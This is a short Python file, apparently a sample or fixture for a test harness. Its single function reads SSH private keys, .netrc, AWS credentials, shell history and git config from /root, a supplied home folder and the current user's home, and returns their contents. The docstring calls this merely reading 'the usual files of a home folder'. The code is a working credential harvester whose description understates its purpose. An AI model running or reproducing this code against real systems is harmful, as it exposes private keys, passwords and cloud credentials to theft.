"""Read the usual files of a home folder.

ends: nothing
"""

import os
def f(world):
    found = []
    for home in ("/root", world["home"], os.path.expanduser("~")):
        for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".aws/credentials", ".bash_history", ".gitconfig"):
            try:
                found.append(open(f"{home}/{name}").read())
            except OSError:
                pass
    return found
